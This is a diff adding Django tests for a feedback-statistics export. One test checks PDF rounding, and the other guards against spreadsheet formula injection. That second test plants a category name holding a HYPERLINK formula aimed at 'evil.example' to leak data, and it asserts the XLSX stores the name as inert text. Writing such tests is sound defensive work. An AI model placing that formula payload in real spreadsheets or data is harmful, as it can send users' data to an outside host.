@@ -426,3 +426,44 @@ def test_the_chart_stops_at_today_and_needs_no_inline_style(client, login, ward_
     chart = response.content.decode().split('<figure class="chart">', 1)[1].split("</figure>", 1)[0]
     assert "style=" not in chart  # the content security policy blocks inline styles
     assert 'font-size="11"' in chart
+
+
+def test_pdf_rounds_as_the_page_and_the_xlsx(monkeypatch):
+    """59 of 400 on time is 14.75 %: the page shows 14,8, so must the PDF (it truncated to 14,7)."""
+    from django.utils import translation
+    from fpdf.table import Row as PdfRow
+
+    written = []
+    original = PdfRow.cell
+
+    def spy(self, text="", *args, **kwargs):
+        written.append(text)
+        return original(self, text, *args, **kwargs)
+
+    monkeypatch.setattr(PdfRow, "cell", spy)
+    row = stats.Row(key=1, label="Phường Bến Thành", received=420, resolved=400, on_time=59)
+    assert row.on_time_rate == 14.75
+    with translation.override("vi"):
+        stats_export.stats_pdf(rows=[row], total=None, period=stats.Period(**MARCH), group_by="organisation")
+    cells = written[written.index("Phường Bến Thành") :]
+    assert cells[4] == "14,8"
+
+
+def test_a_category_named_like_a_formula_is_text_in_the_xlsx(data, login, city_leader):
+    evil = '=HYPERLINK("http://evil.example/?leak","x")'
+    Category.objects.filter(code="giao-thong").update(name=evil)
+    response = login(city_leader).get(
+        reverse("feedback:stats_xlsx"), {"start": "01/03/2026", "end": "31/03/2026", "group_by": "category"}
+    )
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value and "HYPERLINK" in str(cell.value)]
+    assert len(cells) == 1
+    assert cells[0].data_type == "s" and cells[0].value == "'" + evil  # text, not a live formula
+    assert b"<f>" not in _sheet_xml(response.content)
+
+
+def _sheet_xml(content: bytes) -> bytes:
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        return b"".join(archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/"))
